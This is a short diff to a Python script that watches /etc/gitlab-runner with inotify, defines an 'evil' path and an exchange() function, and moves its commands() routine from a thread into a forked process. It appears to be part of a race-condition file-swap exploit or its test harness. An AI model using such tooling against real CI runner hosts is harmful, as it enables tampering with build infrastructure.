@@ -3,7 +3,6 @@
 import ctypes
 import os
 import struct
-import threading
 
 ETC = "/etc/gitlab-runner"
 EVIL = ETC + "/evil"
@@ -38,9 +37,11 @@ def exchange(one, other):
 
 
 prepare()
+# A process of its own: a thread would hold up the other.
+if os.fork() == 0:
+    commands()
 watch = libc.inotify_init()
 libc.inotify_add_watch(watch, ETC.encode(), 0x100 | 0x80)  # made, moved here
-threading.Thread(target=commands, daemon=True).start()
 seen = open(ETC + "/seen", "a", buffering=1)
 seen.write("ready\n")
 while True:
